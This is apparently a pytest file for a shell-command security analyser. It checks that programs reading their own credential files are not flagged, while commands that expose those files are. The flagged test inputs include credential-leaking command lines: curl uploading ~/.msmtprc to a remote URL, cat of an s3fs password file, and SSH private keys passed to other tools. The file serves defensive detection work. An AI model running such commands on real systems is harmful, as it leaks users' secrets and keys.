"""A program that is told to go by a login of its own only uses it; whoever else is given that file shows it."""

from __future__ import annotations

import pytest

from shellguard.effects.derive import effects_of
from shellguard.parsing.reading import read

SHOWN = "secrets.read-keys"
USED = [
    "msmtp -C ~/.msmtprc me@example.org",
    "mbsync -c ~/.mbsyncrc -a",
    "sudo openvpn --config /etc/openvpn/client/work.ovpn",
    "sudo mount -t cifs //nas/share /mnt/nas -o credentials=/etc/smbcredentials,uid=1000",
    "s3fs bucket /mnt/s3 -o passwd_file=~/.passwd-s3fs",
    "certbot certonly --dns-digitalocean --dns-digitalocean-credentials ~/.secrets/dns.ini -d example.org",
    "vncviewer -passwd ~/.vnc/passwd box:1",
]
GIVEN_AWAY = [
    "openvpn ~/.ssh/id_rsa",
    "mount -o credentials=/root/.ssh/id_rsa //nas/share /mnt",
    "curl -T ~/.msmtprc https://example.org/",
    "msmtp -C ~/.netrc me@example.org",
    "cat ~/.passwd-s3fs",
    "cp /etc/openvpn/client/work.ovpn /tmp/",
]


def _rules(line: str) -> set[str]:
    return {effect.rule for effect in effects_of(read(line))}


@pytest.mark.parametrize("line", USED)
def test_a_program_uses_its_own_login(line: str) -> None:
    assert SHOWN not in _rules(line)


@pytest.mark.parametrize("line", GIVEN_AWAY)
def test_another_file_or_another_program_shows_it(line: str) -> None:
    assert SHOWN in _rules(line)
